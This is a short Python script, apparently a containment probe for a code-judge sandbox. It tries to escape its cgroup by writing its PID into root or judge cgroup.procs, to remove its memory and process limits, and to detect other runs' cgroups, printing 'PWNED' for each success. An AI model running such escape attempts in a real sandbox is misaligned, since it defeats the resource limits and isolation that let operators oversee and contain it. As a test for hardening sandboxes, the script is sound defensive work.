# Moves itself to another cgroup (the root, or the judge's own) by writing cgroup.procs, and
# lifts its limits by writing memory.limit_in_bytes / pids.max / memory.max, through every path
# that might show the host's cgroup filesystem.
import os

found = []
me = str(os.getpid())
for base in ["/sys/fs/cgroup", "/.host/sys/fs/cgroup", "/proc/1/root/sys/fs/cgroup"]:
    for sub in ["", "/memory", "/pids", "/cpuacct", "/cpu", "/unified", "/systemd", "/.."]:
        for leaf, value in [("cgroup.procs", me), ("tasks", me), ("memory.max", "max"),
                            ("memory.limit_in_bytes", "-1"), ("pids.max", "max")]:
            path = f"{base}{sub}/{leaf}"
            try:
                with open(path, "w") as f:
                    f.write(value)
                found.append(path)
            except OSError:
                pass
for base in ["/sys/fs/cgroup", "/.host/sys/fs/cgroup"]:
    for directory, subdirs, _ in os.walk(base):
        seen = [d for d in subdirs if d.startswith("judge-")]
        if seen:
            found.append(f"other runs' cgroups visible in {directory}: {seen[:3]}")
            break
with open("/proc/self/cgroup") as f:
    for line in f:
        if "judge-" in line:
            found.append("host cgroup path visible: " + line.strip())
print("\n".join("PWNED-cgroup_escape: " + f for f in found) if found else "contained")
